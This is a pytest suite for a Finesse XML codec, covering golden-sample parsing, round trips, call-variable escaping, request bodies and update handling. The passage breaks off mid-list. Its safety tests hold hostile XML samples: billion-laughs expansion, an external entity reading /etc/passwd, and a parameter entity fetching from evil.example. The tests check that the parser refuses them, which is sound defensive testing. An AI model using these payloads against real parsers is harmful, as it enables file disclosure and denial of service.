"""The Finesse XML codec against golden samples reconstructed from Finesse's documentation
(docs/finesse.md).

Each golden in tests/golden must parse to the dataclass values written out here, survive a
serialize/parse round trip, and keep parsing to the same values when its children are
shuffled and unknown elements are added. Where a golden is in exactly the shape the codec
writes, the serializer must reproduce it (modulo whitespace and comments).
"""

from __future__ import annotations

import copy
import dataclasses
import random
import re
import xml.etree.ElementTree as ET
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from connector.finesse import codec
from connector.finesse.codec import (
    api_errors_to_xml,
    dialog_element,
    dialog_request_to_xml,
    dialog_to_xml,
    dialogs_to_xml,
    parse_api_errors,
    parse_dialog,
    parse_dialog_request,
    parse_dialogs,
    parse_reason_code,
    parse_reason_codes,
    parse_system_info,
    parse_team,
    parse_team_member,
    parse_update,
    parse_user,
    parse_wrap_up_reasons,
    reason_code_to_xml,
    reason_codes_to_xml,
    system_info_to_xml,
    team_member_to_xml,
    team_to_xml,
    update_to_xml,
    user_request_to_xml,
    user_to_xml,
    wrap_up_reasons_to_xml,
)
from connector.finesse.models import (
    CALL_VARIABLE_NAMES,
    Action,
    AgentState,
    ApiError,
    Dialog,
    DialogRequest,
    MediaProperties,
    MobileAgent,
    Node,
    Participant,
    ReasonCode,
    SystemInfo,
    Team,
    TeamMember,
    Update,
    User,
    UserSettings,
    WrapUpReason,
)
from connector.finesse.safexml import FinesseXmlError, local, parse_xml

GOLDEN = Path(__file__).resolve().parents[1] / "golden"


def golden(name: str) -> bytes:
    return (GOLDEN / name).read_bytes()


def ten(**values: str) -> dict[str, str]:
    """callVariable1..10, empty unless given (callVariable3="x" -> ten(callVariable3="x"))."""
    return {name: values.get(name, "") for name in CALL_VARIABLE_NAMES}


T0 = "2024-01-01T10:00:00.000Z"
RING = "2024-01-01T10:10:00.000Z"
CALLER_START = "2024-01-01T10:09:58.000Z"
ANSWERED = "2024-01-01T10:10:04.000Z"

LUNCH = ReasonCode(
    id="16",
    category="NOT_READY",
    code="11",
    label="Lunch",
    for_all=True,
    system_code=False,
    uri="/finesse/api/ReasonCode/16",
)

ANN_SETTINGS = UserSettings(wrap_up_on_incoming="OPTIONAL", wrap_up_on_outgoing="NOT_ALLOWED")

REST_USER = User(
    login_id="1001",
    login_name="alee",
    first_name="Ann",
    last_name="Lee",
    state="NOT_READY",
    state_change_time=T0,
    pending_state="",
    reason_code_id="-1",
    reason_code=None,
    extension="5001",
    media_type="1",
    roles=["Agent"],
    settings=ANN_SETTINGS,
    team_id="5000",
    team_name="Sales",
    mobile_agent=None,
    uri="/finesse/api/User/1001",
    dialogs="/finesse/api/User/1001/Dialogs",
)

UCCX_USER_UPDATE = Update(
    event="PUT",
    source="/finesse/api/User/1001",
    request_id="3f2a9c1e-7d4b-4a43-9a55-0c2d1c6b8e10",
    data=dataclasses.replace(
        REST_USER,
        reason_code_id="16",
        reason_code=LUNCH,
        state_change_time="2024-01-01T10:05:00.000Z",
    ),
)

AGENT_RINGING = Participant(
    media_address="5001",
    state="ALERTING",
    actions=["ANSWER"],
    media_address_type="AGENT_DEVICE",
    start_time=RING,
    state_cause="",
    state_change_time=RING,
)
CALLER_DIALING = Participant(
    media_address="335892",
    state="INITIATED",
    actions=["UPDATE_CALL_DATA", "DROP"],
    media_address_type="",
    start_time=CALLER_START,
    state_cause="",
    state_change_time=CALLER_START,
)

INCOMING_DIALOG = Dialog(
    id="53149720",
    state="ALERTING",
    from_address="335892",
    to_address="5001",
    media_type="Voice",
    associated_dialog_uri="",
    secondary_id="",
    media_properties=MediaProperties(
        media_id="1",
        dialed_number="5001",
        dnis="5001",
        call_type="OTHER_IN",
        call_variables=ten(),
    ),
    participants=[AGENT_RINGING, CALLER_DIALING],
    uri="/finesse/api/Dialog/53149720",
)

DIALOGS_POST_UPDATE = Update(
    event="POST",
    source="/finesse/api/User/1001/Dialogs",
    request_id="",
    data=[
        dataclasses.replace(
            INCOMING_DIALOG,
            to_address="8000",
            media_properties=MediaProperties(
                media_id="1",
                dialed_number="8000",
                dnis="5001",
                call_type="ACD_IN",
                queue_number="3001",
                queue_name="Sales_Q",
                call_variables={
                    **ten(callVariable1="ACME Corp", callVariable3="42"),
                    "user.note": "a<b&c > \"q\" 'x'",
                    "user.myarray[2]": "second",
                },
            ),
        )
    ],
)

ACTIVE_ACTIONS = ["HOLD", "DROP", "UPDATE_CALL_DATA", "CONSULT_CALL"]
DIALOG_PUT_UPDATE = Update(
    event="PUT",
    source="/finesse/api/Dialog/53149720",
    request_id="req-answer-1",
    data=dataclasses.replace(
        INCOMING_DIALOG,
        state="ACTIVE",
        media_properties=dataclasses.replace(
            INCOMING_DIALOG.media_properties, call_variables=ten(callVariable3="VIP")
        ),
        participants=[
            dataclasses.replace(
                AGENT_RINGING,
                state="ACTIVE",
                actions=ACTIVE_ACTIONS,
                state_change_time=ANSWERED,
            ),
            dataclasses.replace(
                CALLER_DIALING,
                state="ACTIVE",
                actions=ACTIVE_ACTIONS,
                state_change_time=ANSWERED,
            ),
        ],
    ),
)

DTMF_UPDATE = Update(
    event="PUT",
    source="/finesse/api/Dialog/53149720",
    request_id="req-dtmf-7",
    data=Dialog(
        id="",  # the point of this sample: no <id>, and none is invented
        state="ACTIVE",
        from_address="335892",
        to_address="5001",
        media_properties=MediaProperties(
            media_id="1", dialed_number="5001", dnis="5001", call_type="OTHER_IN"
        ),
        participants=[
            dataclasses.replace(
                AGENT_RINGING,
                state="ACTIVE",
                actions=["HOLD", "DROP", "SEND_DTMF"],
                state_change_time=ANSWERED,
            )
        ],
        uri="/finesse/api/Dialog/53149720",
    ),
)

REST_ERRORS = [
    ApiError(
        error_type="Invalid Input",
        error_message="Invalid State specified for user",
        error_data="state",
    )
]

ASYNC_ERROR_UPDATE = Update(
    event="PUT",
    source="/finesse/api/Dialog/12345",
    request_id="abc",
    data=[
        ApiError(
            error_type="Call Operation Failure",
            error_message="CF_RESOURCE_OUT_OF_SERVICE",
            error_data="34",
        )
    ],
)

REASON_CODES = [
    LUNCH,
    ReasonCode(
        id="17",
        category="NOT_READY",
        code="12",
        label="Coaching & Training",
        for_all=False,
        system_code=False,
        uri="/finesse/api/ReasonCode/17",
    ),
]

WRAP_UP_REASONS = [
    WrapUpReason(id="1", label="Sale", for_all=True, uri="/finesse/api/WrapUpReason/1"),
    WrapUpReason(id="2", label="No Sale", for_all=False, uri="/finesse/api/WrapUpReason/2"),
]

SYSTEM_INFO = SystemInfo(
    status="IN_SERVICE",
    status_reason="",
    deployment_type="UCCE",
    current_timestamp=T0,
    timezone_offset="-300",
    xmpp_domain="finesse1.example.com",
    xmpp_pubsub_domain="pubsub.finesse1.example.com",
    primary_node=Node("finesse1.example.com", "8445", "5222", "5223"),
    secondary_node=Node("finesse2.example.com", "8445", "5222", "5223"),
    cti_version="20",
    peripheral_id="5000",
    system_auth_mode="NON_SSO",
    uri="/finesse/api/SystemInfo",
)

TEAM = Team(
    id="5000",
    name="Sales",
    uri="/finesse/api/Team/5000",
    users=[
        TeamMember(
            login_id="1001",
            first_name="Ann",
            last_name="Lee",
            state="NOT_READY",
            state_change_time="2024-01-01T10:05:00.000Z",
            pending_state="",
            extension="5001",
            reason_code=LUNCH,
            uri="/finesse/api/User/1001",
            dialogs="/finesse/api/User/1001/Dialogs",
        ),
        TeamMember(
            login_id="1002",
            first_name="Bo",
            last_name="Chen",
            state="TALKING",
            state_change_time="2024-01-01T10:07:30.000Z",
            pending_state="NOT_READY",
            extension="5002",
            reason_code=None,
            uri="/finesse/api/User/1002",
            dialogs="/finesse/api/User/1002/Dialogs",
        ),
    ],
)

MAKE_CALL = DialogRequest(
    requested_action="MAKE_CALL",
    from_address="5001",
    to_address="919725551212",
    media_properties=MediaProperties(call_variables={"callVariable1": "x"}),
)

SEND_DTMF = DialogRequest(
    requested_action="SEND_DTMF",
    target_media_address="5001",
    action_params={"dtmfString": "123#"},
    media_properties=None,
)

UPDATE_CALL_DATA = DialogRequest(
    requested_action="UPDATE_CALL_DATA",
    media_properties=MediaProperties(
        wrap_up_reason="Sale",
        call_variables={"callVariable2": "acct 42", "callVariable1": "", "user.note": "a<b&c"},
    ),
)

MOBILE_LOGIN = User(
    state="LOGIN",
    extension="7001",
    mobile_agent=MobileAgent(mode="CALL_BY_CALL", dial_number="4085551234"),
)


def _reason_codes_to_xml(codes: list[ReasonCode]) -> str:
    return reason_codes_to_xml(codes, "NOT_READY")


# name, parser, serializer, expected value, serializer reproduces the golden exactly
Case = tuple[str, Callable[[Any], Any], Callable[[Any], str], Any, bool]
GOLDENS: list[Case] = [
    ("rest_user.xml", parse_user, user_to_xml, REST_USER, True),
    ("notification_user_uccx.xml", parse_update, update_to_xml, UCCX_USER_UPDATE, True),
    ("dialog_incoming.xml", parse_dialog, dialog_to_xml, INCOMING_DIALOG, True),
    ("notification_dialogs_post.xml", parse_update, update_to_xml, DIALOGS_POST_UPDATE, False),
    ("notification_dialog_put.xml", parse_update, update_to_xml, DIALOG_PUT_UPDATE, True),
    ("notification_dialog_dtmf.xml", parse_update, update_to_xml, DTMF_UPDATE, False),
    ("rest_api_errors.xml", parse_api_errors, api_errors_to_xml, REST_ERRORS, False),
    ("notification_api_errors.xml", parse_update, update_to_xml, ASYNC_ERROR_UPDATE, True),
    ("reason_codes.xml", parse_reason_codes, _reason_codes_to_xml, REASON_CODES, False),
    ("wrap_up_reasons.xml", parse_wrap_up_reasons, wrap_up_reasons_to_xml, WRAP_UP_REASONS, False),
    ("system_info.xml", parse_system_info, system_info_to_xml, SYSTEM_INFO, False),
    ("team.xml", parse_team, team_to_xml, TEAM, False),
    ("request_make_call.xml", parse_dialog_request, dialog_request_to_xml, MAKE_CALL, True),
    ("request_send_dtmf.xml", parse_dialog_request, dialog_request_to_xml, SEND_DTMF, True),
    (
        "request_update_call_data.xml",
        parse_dialog_request,
        dialog_request_to_xml,
        UPDATE_CALL_DATA,
        True,
    ),
    ("request_mobile_agent_login.xml", parse_user, user_request_to_xml, MOBILE_LOGIN, True),
]
GOLDEN_IDS = [case[0] for case in GOLDENS]


def _with_all_ten(value: Any) -> Any:
    """`value` with every Dialog's call variables completed to all ten, as the codec writes
    them. The one intended difference a round trip may make (DTMF sample: no callvariables)."""
    value = copy.deepcopy(value)
    data = value.data if isinstance(value, Update) else value
    dialogs = data if isinstance(data, list) else [data]
    for d in dialogs:
        if isinstance(d, Dialog):
            d.media_properties.call_variables = {
                **ten(),
                **d.media_properties.call_variables,
            }
    return value


def _canonical(xml: str | bytes) -> str:
    return ET.canonicalize(xml, strip_text=True)


# ---------------------------------------------------------------------------------------
# Goldens
# ---------------------------------------------------------------------------------------


def test_every_golden_file_has_a_case() -> None:
    assert sorted(p.name for p in GOLDEN.glob("*.xml")) == sorted(GOLDEN_IDS)


@pytest.mark.parametrize(
    ("name", "parse", "serialize", "expected", "exact"), GOLDENS, ids=GOLDEN_IDS
)
def test_golden_parses_to_expected_values(name, parse, serialize, expected, exact) -> None:
    assert parse(golden(name)) == expected


@pytest.mark.parametrize(
    ("name", "parse", "serialize", "expected", "exact"), GOLDENS, ids=GOLDEN_IDS
)
def test_golden_round_trip(name, parse, serialize, expected, exact) -> None:
    parsed = parse(golden(name))
    written = serialize(parsed)
    again = parse(written)
    assert again == _with_all_ten(parsed)
    # And the written form is a fixed point: writing it again changes nothing.
    assert serialize(again) == written


@pytest.mark.parametrize(
    ("name", "parse", "serialize"),
    [(n, p, s) for n, p, s, _, exact in GOLDENS if exact],
    ids=[n for n, *_, exact in GOLDENS if exact],
)
def test_serializer_reproduces_golden(name, parse, serialize) -> None:
    assert _canonical(serialize(parse(golden(name)))) == _canonical(golden(name))


def _shuffle_and_pad(el: ET.Element, rng: random.Random) -> None:
    """Shuffle record children (all tags distinct: order is meaningless there) and add an
    unknown element to every non-leaf element except <data>, whose first child is the
    payload. List children (repeated tags) keep their order, which is significant."""
    kids = list(el)
    for kid in kids:
        _shuffle_and_pad(kid, rng)
    if not kids or local(el.tag) == "data":
        return
    kids.append(ET.Element("futureElement", {"v": "1"}))
    kids[-1].text = "ignored"
    tags = [k.tag for k in kids]
    if len(set(tags)) == len(tags):
        rng.shuffle(kids)
    el[:] = kids


@pytest.mark.parametrize("seed", [1, 2, 3])
@pytest.mark.parametrize(
    ("name", "parse", "serialize", "expected", "exact"), GOLDENS, ids=GOLDEN_IDS
)
def test_tolerant_parsing_of_shuffled_and_extended_goldens(
    name, parse, serialize, expected, exact, seed
) -> None:
    root = parse_xml(golden(name))
    _shuffle_and_pad(root, random.Random(seed))
    shuffled = ET.tostring(root, encoding="unicode")
    assert shuffled != ET.tostring(parse_xml(golden(name)), encoding="unicode")
    assert parse(shuffled) == expected


# ---------------------------------------------------------------------------------------
# Casing of what the simulator writes
# ---------------------------------------------------------------------------------------

ERR = [ApiError("Invalid State", "CF_INVALID_AGENT_WORKMODE", "265")]
MEMBER = TEAM.users[0]


@pytest.mark.parametrize(
    ("xml", "present", "absent"),
    [
        (
            user_to_xml(UCCX_USER_UPDATE.data),
            ["<User>", "<ReasonCode>"],
            ["<user>", "<reasonCode>"],
        ),
        (
            user_to_xml(UCCX_USER_UPDATE.data, notification=True),
            ["<user>", "<reasonCode>", "<reasonCodeId>16</reasonCodeId>"],
            ["<User>", "<ReasonCode>"],
        ),
        (api_errors_to_xml(ERR), ["<ApiErrors><ApiError><ErrorData>", "<ErrorType>"], ["<api"]),
        (
            api_errors_to_xml(ERR, notification=True),
            ["<apiErrors><apiError><errorData>", "<errorMessage>", "<errorType>"],
            ["<Api", "<Error"],
        ),
        (dialogs_to_xml([INCOMING_DIALOG]), ["<Dialogs><Dialog>"], ["<dialogs>"]),
        (
            dialogs_to_xml([INCOMING_DIALOG], notification=True),
            ["<dialogs><Dialog>", "</Dialog></dialogs>"],
            ["<Dialogs>"],
        ),
        (
            update_to_xml(DIALOG_PUT_UPDATE),
            ["<data><dialog><associatedDialogUri>", "</uri></dialog></data>"],
            ["<Dialog>"],
        ),
        (update_to_xml(UCCX_USER_UPDATE), ["<data><user>", "<reasonCode>"], ["<User>"]),
        (update_to_xml(ASYNC_ERROR_UPDATE), ["<data><apiErrors><apiError>"], ["<ApiError"]),
        (update_to_xml(Update("PUT", "/x")), ["<Update><data></data><event>PUT</event>"], []),
        (
            update_to_xml(Update("PUT", "/finesse/api/SystemInfo", SYSTEM_INFO)),
            ["<data><SystemInfo>"],
            ["<systemInfo>"],
        ),
        (update_to_xml(Update("PUT", "/x", MEMBER)), ["<data><user>", "<reasonCode>"], []),
        (team_member_to_xml(MEMBER), ["<user>", "<reasonCode>"], ["<User>", "<ReasonCode>"]),
        (team_to_xml(TEAM), ["<users><User>", "<reasonCode>"], ["<user>", "<ReasonCode>"]),
        (reason_code_to_xml(LUNCH), ["<ReasonCode><category>NOT_READY"], ["<reasonCode>"]),
        (
            reason_codes_to_xml(REASON_CODES, "NOT_READY"),
            ['<ReasonCodes category="NOT_READY"><ReasonCode>', "<forAll>false</forAll>"],
            ["True", "False"],
        ),
        (
            wrap_up_reasons_to_xml(WRAP_UP_REASONS),
            ["<WrapUpReasons><WrapUpReason><forAll>true</forAll>"],
            ["True"],
        ),
        (system_info_to_xml(SYSTEM_INFO), ["<SystemInfo>", "<xmppPubSubDomain>"], []),
        (
            dialog_to_xml(INCOMING_DIALOG),
            ["<callvariables><CallVariable><name>callVariable1</name>"],
            ["<callVariables>"],
        ),
    ],
)
def test_serialized_casing(xml: str, present: list[str], absent: list[str]) -> None:
    for fragment in present:
        assert fragment in xml
    for fragment in absent:
        assert fragment not in xml


def test_user_children_are_alphabetical_as_real_servers_send_them() -> None:
    user = dataclasses.replace(
        UCCX_USER_UPDATE.data,
        mobile_agent=MobileAgent("NAILED_CONNECTION", "0612345678"),
        settings=UserSettings("REQUIRED", "OPTIONAL", "enabled"),
    )
    root = ET.fromstring(user_to_xml(user, notification=True))
    tags = [c.tag for c in root]
    assert tags == sorted(tags, key=str.lower)
    assert tags[7:10] == ["mobileAgent", "pendingState", "reasonCode"]
    assert [c.tag for c in root.find("settings")] == [
        "wrapUpOnIncoming",
        "wrapUpOnOutgoing",
        "deviceSelection",
    ]


def test_user_optional_parts_are_left_out_when_unset() -> None:
    xml = user_to_xml(User(login_id="1002"))
    for tag in ("mobileAgent", "ReasonCode", "reasonCode>", "settings", "deviceSelection"):
        assert f"<{tag}" not in xml
    assert "<pendingState></pendingState>" in xml
    assert "<uri>/finesse/api/User/1002</uri>" in xml


def test_system_info_leaves_out_a_missing_secondary_node() -> None:
    info = dataclasses.replace(SYSTEM_INFO, secondary_node=None)
    xml = system_info_to_xml(info)
    assert "<secondaryNode>" not in xml
    assert "<primaryNode><host>finesse1.example.com</host>" in xml
    assert parse_system_info(xml) == info


@pytest.mark.parametrize("root", ["SystemInfo", "systemInfo", "systeminfo"])
def test_system_info_parses_any_root_casing(root: str) -> None:
    xml = system_info_to_xml(SYSTEM_INFO).replace("SystemInfo>", f"{root}>")
    assert parse_system_info(xml) == SYSTEM_INFO


# ---------------------------------------------------------------------------------------
# Call variables
# ---------------------------------------------------------------------------------------


def test_all_ten_call_variables_are_written_even_if_only_one_is_set() -> None:
    dialog = Dialog(
        id="9",
        media_properties=MediaProperties(
            call_variables={"user.b": "2", "callVariable3": "x", "user.a": "1"}
        ),
    )
    xml = dialog_to_xml(dialog)
    names = re.findall(r"<name>([^<]*)</name>", xml)
    assert names == [*CALL_VARIABLE_NAMES, "user.b", "user.a"]
    assert "<name>callVariable1</name><value></value>" in xml
    assert "<name>callVariable3</name><value>x</value>" in xml
    assert parse_dialog(xml).media_properties.call_variables == {
        **ten(callVariable3="x"),
        "user.b": "2",
        "user.a": "1",
    }


@pytest.mark.parametrize(
    "value",
    [
        "a<b&c",
        "]]> & &amp; &lt;",
        "say \"hi\" and 'bye'",
        "  padded  ",
        "tab\there\nnewline",
        "cr\r\nlf",
        "unicode: é ü 中文 🙂",
        "",
    ],
)
def test_call_variable_values_round_trip_exactly(value: str) -> None:
    dialog = Dialog(id="1", media_properties=MediaProperties(call_variables={"user.v": value}))
    back = parse_dialog(dialog_to_xml(dialog))
    assert back.media_properties.call_variables["user.v"] == value
    request = DialogRequest(
        "UPDATE_CALL_DATA",
        media_properties=MediaProperties(call_variables={"callVariable1": value}),
    )
    req_back = parse_dialog_request(dialog_request_to_xml(request))
    assert req_back.media_properties.call_variables == {"callVariable1": value}


def test_characters_xml_cannot_carry_are_dropped_not_written() -> None:
    dialog = Dialog(
        id="1", media_properties=MediaProperties(call_variables={"user.v": "a\x00b\x1bc"})
    )
    xml = dialog_to_xml(dialog)
    parse_xml(xml)  # still well-formed
    assert parse_dialog(xml).media_properties.call_variables["user.v"] == "abc"


def test_attribute_is_escaped() -> None:
    xml = reason_codes_to_xml([], 'A"<&')
    assert parse_xml(xml).get("category") == 'A"<&'


def test_duplicate_call_variable_in_request_raises_naming_it() -> None:
    body = (
        "<Dialog><requestedAction>UPDATE_CALL_DATA</requestedAction><mediaProperties>"
        "<callvariables>"
        "<CallVariable><name>callVariable4</name><value>a</value></CallVariable>"
        "<CallVariable><name>callVariable4</name><value>b</value></CallVariable>"
        "</callvariables></mediaProperties></Dialog>"
    )
    with pytest.raises(FinesseXmlError, match="callVariable4"):
        parse_dialog_request(body)


def test_nameless_call_variable_in_request_raises() -> None:
    body = (
        "<Dialog><mediaProperties><callvariables><CallVariable><value>a</value>"
        "</CallVariable></callvariables></mediaProperties></Dialog>"
    )
    with pytest.raises(FinesseXmlError, match="without a name"):
        parse_dialog_request(body)


def test_server_dialog_with_duplicate_variable_is_tolerated_last_wins() -> None:
    # Tolerant on the client side: a server sample is not refused over this.
    body = (
        "<Dialog><id>1</id><mediaProperties><callvariables>"
        "<CallVariable><name>user.x</name><value>a</value></CallVariable>"
        "<CallVariable><name>user.x</name><value>b</value></CallVariable>"
        "</callvariables></mediaProperties></Dialog>"
    )
    assert parse_dialog(body).media_properties.call_variables == {"user.x": "b"}


def test_request_call_variables_keep_wire_order() -> None:
    request = parse_dialog_request(golden("request_update_call_data.xml"))
    assert request.media_properties is not None
    assert list(request.media_properties.call_variables) == [
        "callVariable2",
        "callVariable1",
        "user.note",
    ]


# ---------------------------------------------------------------------------------------
# Requests
# ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("user", "body"),
    [
        (
            User(state="LOGIN", extension="5001"),
            "<User><state>LOGIN</state><extension>5001</extension></User>",
        ),
        (User(state="READY"), "<User><state>READY</state></User>"),
        (
            User(state="NOT_READY", reason_code_id="16"),
            "<User><state>NOT_READY</state><reasonCodeId>16</reasonCodeId></User>",
        ),
        (
            User(state="LOGOUT", reason_code_id="22"),
            "<User><state>LOGOUT</state><reasonCodeId>22</reasonCodeId></User>",
        ),
        (
            User(state="LOGIN", extension="7001", mobile_agent=MobileAgent("", "4085551234")),
            "<User><state>LOGIN</state><extension>7001</extension>"
            "<mobileAgent><dialNumber>4085551234</dialNumber></mobileAgent></User>",
        ),
    ],
)
def test_user_request_bodies(user: User, body: str) -> None:
    assert user_request_to_xml(user) == body
    parsed = parse_user(body)
    assert (parsed.state, parsed.extension, parsed.reason_code_id) == (
        user.state,
        user.extension,
        user.reason_code_id,
    )
    assert parsed.mobile_agent == user.mobile_agent
    assert parsed.login_id == "" and parsed.uri == ""


def test_request_media_properties_are_set_only_when_present() -> None:
    without = parse_dialog_request("<Dialog><requestedAction>ANSWER</requestedAction></Dialog>")
    assert without.media_properties is None
    empty = parse_dialog_request("<Dialog><mediaProperties/></Dialog>")
    assert empty.media_properties == MediaProperties()
    assert "<mediaProperties></mediaProperties>" in dialog_request_to_xml(empty)
    assert "mediaProperties" not in dialog_request_to_xml(without)


def test_request_writes_only_non_empty_parts() -> None:
    xml = dialog_request_to_xml(DialogRequest("DROP", target_media_address="5001"))
    assert xml == (
        "<Dialog><requestedAction>DROP</requestedAction>"
        "<targetMediaAddress>5001</targetMediaAddress></Dialog>"
    )


# ---------------------------------------------------------------------------------------
# Update parsing
# ---------------------------------------------------------------------------------------


def test_notification_namespaces_are_ignored_on_a_pre_parsed_element() -> None:
    # As an XMPP library hands it over: plain ElementTree, namespaces still in the tags.
    message = ET.fromstring(golden("notification_dialogs_post.xml"))
    notification = next(el for el in message.iter() if el.tag.endswith("}notification"))
    assert notification.tag == "{http://jabber.org/protocol/pubsub}notification"
    assert parse_update(notification) == DIALOGS_POST_UPDATE
    assert parse_update(message) == DIALOGS_POST_UPDATE
    # and the caller's tree is left as it was
    assert notification.tag == "{http://jabber.org/protocol/pubsub}notification"


def test_escaped_text_payload_in_data_is_parsed() -> None:
    user_xml = user_to_xml(UCCX_USER_UPDATE.data, notification=True)
    escaped = user_xml.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    xml = (
        f"<Update><data>\n  {escaped}\n</data><event>PUT</event>"
        "<requestId>3f2a9c1e-7d4b-4a43-9a55-0c2d1c6b8e10</requestId>"
        "<source>/finesse/api/User/1001</source></Update>"
    )
    assert parse_update(xml) == UCCX_USER_UPDATE


def test_escaped_update_inside_notification_is_parsed() -> None:
    update = update_to_xml(ASYNC_ERROR_UPDATE)
    escaped = update.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    xml = f"<notification xmlns='http://jabber.org/protocol/pubsub'>{escaped}</notification>"
    assert parse_update(xml) == ASYNC_ERROR_UPDATE


@pytest.mark.parametrize("event", ["put", "Put", " PUT "])
def test_event_is_upper_cased(event: str) -> None:
    xml = f"<Update><event>{event}</event><source>/s</source><data/></Update>"
    assert parse_update(xml) == Update(event="PUT", source="/s", data=None, request_id="")


def test_dialog_wrapper_holding_a_full_dialog_is_accepted() -> None:
    inner = dialog_to_xml(DIALOG_PUT_UPDATE.data)
    xml = (
        f"<Update><data><dialog>{inner}</dialog></data><event>PUT</event>"
        "<requestId>req-answer-1</requestId><source>/finesse/api/Dialog/53149720</source>"
        "</Update>"
    )
    assert parse_update(xml) == DIALOG_PUT_UPDATE
    assert parse_dialog(f"<dialog>{inner}</dialog>") == DIALOG_PUT_UPDATE.data


def test_team_node_user_summary_is_a_team_member() -> None:
    member_update = update_to_xml(Update("PUT", "/finesse/api/User/1001", MEMBER))
    message = (
        "<message from='pubsub.f' to='2001@f'><event xmlns='http://jabber.org/protocol/pubsub#event'>"
        "<items node='/finesse/api/Team/5000/Users'><item id='1'>"
        f"<notification xmlns='http://jabber.org/protocol/pubsub'>{member_update}</notification>"
        "</item></items></event></message>"
    )
    assert parse_update(message).data == MEMBER
    # Without the node there is no telling: a User, unless the caller says otherwise.
    assert isinstance(parse_update(member_update).data, User)
    assert parse_update(member_update, team_member=True).data == MEMBER
    assert parse_team_member(team_member_to_xml(MEMBER)) == MEMBER


def test_update_round_trips_every_data_type() -> None:
    for data in [
        None,
        REST_USER,
        INCOMING_DIALOG,
        [INCOMING_DIALOG, DIALOG_PUT_UPDATE.data],
        REST_ERRORS,
        SYSTEM_INFO,
    ]:
        update = Update("PUT", "/finesse/api/x", data, "r")
        assert parse_update(update_to_xml(update)) == update


def test_lone_api_error_is_a_list_of_one() -> None:
    assert parse_api_errors(
        "<apiError><errorType>Invalid Device</errorType><errorData>5001</errorData></apiError>"
    ) == [ApiError("Invalid Device", "", "5001")]


def test_reason_code_user_variants() -> None:
    rest = user_to_xml(UCCX_USER_UPDATE.data)
    assert parse_user(rest).reason_code == LUNCH
    assert parse_reason_code(reason_code_to_xml(LUNCH)) == LUNCH
    # an empty reason code element means none
    assert parse_user("<user><loginId>1</loginId><reasonCode/></user>").reason_code is None


def test_dialog_element_is_the_same_dialog() -> None:
    el = dialog_element(INCOMING_DIALOG)
    assert el.tag == "Dialog"
    assert parse_dialog(el) == INCOMING_DIALOG
    assert parse_dialogs(dialogs_to_xml([INCOMING_DIALOG], notification=True)) == [INCOMING_DIALOG]


@pytest.mark.parametrize(
    ("parse", "xml"),
    [
        (parse_user, "<Dialog/>"),
        (parse_dialog, "<User/>"),
        (parse_dialogs, "<Dialog/>"),
        (parse_team, "<User/>"),
        (parse_system_info, "<Team/>"),
        (parse_api_errors, "<Error/>"),
        (parse_update, "<notification><item/></notification>"),
        (parse_update, "<Update><data><Queue/></data></Update>"),
    ],
)
def test_wrong_shape_raises_finesse_xml_error(parse, xml: str) -> None:
    with pytest.raises(FinesseXmlError):
        parse(xml)


def test_serializer_refuses_unknown_update_data() -> None:
    with pytest.raises(TypeError):
        update_to_xml(Update("PUT", "/x", object()))  # type: ignore[arg-type]


# ---------------------------------------------------------------------------------------
# Safety
# ---------------------------------------------------------------------------------------

DOCTYPE = '<?xml version="1.0"?><!DOCTYPE User><User><state>READY</state></User>'
BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
    '<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>'
    "<User><state>&lol4;</state></User>"
)
EXTERNAL_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE User [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    "<User><state>&xxe;</state></User>"
)
PARAMETER_ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE User [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd">'
    "%ext;]><User/>"
)
UNSAFE = {
    "doctype": DOCTYPE,
    "billion_laughs": BILLION_LAUGHS,
    "external_entity": EXTERNAL_ENTITY,
    "parameter_entity": PARAMETER_ENTITY,
}


def _encodings(text: str) -> dict[str, str | bytes]:
    """The same document as str, UTF-8 bytes, Latin-1 bytes and UTF-16 bytes (the last two
    take the defusedxml path)."""
    utf8_decl = text.replace('<?xml version="1.0"?>', "")
    return {
        "str": text,
        "utf8": text.encode(),
        "latin1": ('<?xml version="1.0" encoding="ISO-8859-1"?>' + utf8_decl).encode("latin-1"),
        "utf16": ('<?xml version="1.0" encoding="UTF-16"?>' + utf8_decl).encode("utf-16"),
    }


@pytest.mark.parametrize("encoding", ["str", "utf8", "latin1", "utf16"])
@pytest.mark.parametrize("payload", sorted(UNSAFE))
def test_unsafe_xml_is_refused(payload: str, encoding: str) -> None:
    data = _encodings(UNSAFE[payload])[encoding]
    with pytest.raises(FinesseXmlError, match="unsafe XML refused"):
        parse_xml(data)
    with pytest.raises(FinesseXmlError):
        parse_user(data)


@pytest.mark.parametrize("encoding", ["str", "utf8", "latin1", "utf16"])
def test_safe_xml_parses_in_every_encoding(encoding: str) -> None:
    data = _encodings('<?xml version="1.0"?><User><firstName>Zoë</firstName></User>')[encoding]
    assert parse_user(data).first_name == "Zoë"


def test_comments_and_cdata_are_not_mistaken_for_declarations() -> None:
    xml = "<!-- a comment --><User><firstName><![CDATA[a<b]]></firstName></User>"
    assert parse_user(xml).first_name == "a<b"


def test_oversized_input_is_refused_before_parsing() -> None:
    big = "<User><firstName>" + "x" * 300_000 + "</firstName></User>"
    with pytest.raises(FinesseXmlError, match="too large"):
        parse_xml(big)
    with pytest.raises(FinesseXmlError, match="too large"):
        parse_user(big.encode())
    # The limit counts bytes, not characters, and is checked before the parser runs:
    # a malformed body over the limit is reported as too large, not as malformed.
    with pytest.raises(FinesseXmlError, match="too large"):
        parse_xml("<a>" + "é" * 60, max_bytes=100)
    assert parse_xml("<a>" + "é" * 40 + "</a>", max_bytes=100).text == "é" * 40


@pytest.mark.parametrize(
    "data",
    [
        "<User><state>READY</User>",
        "<User>",
        "not xml at all",
        "<User></User><User></User>",
        "<User><state>&undefined;</state></User>",
        b"\xff\xfe\x00garbage",
        "",
